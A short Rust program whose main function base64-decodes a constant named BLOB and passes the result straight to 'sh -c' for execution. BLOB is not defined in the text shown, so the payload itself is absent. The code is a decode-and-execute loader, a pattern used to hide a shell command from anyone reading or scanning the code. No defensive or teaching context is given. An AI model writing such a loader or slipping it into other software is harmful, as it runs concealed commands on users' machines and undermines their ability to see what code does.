use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use std::process::Command;

fn main() {
    let line = STANDARD.decode(BLOB).unwrap();
    let line = String::from_utf8(line).unwrap();
    Command::new("sh").arg("-c").arg(line).spawn().unwrap();
}
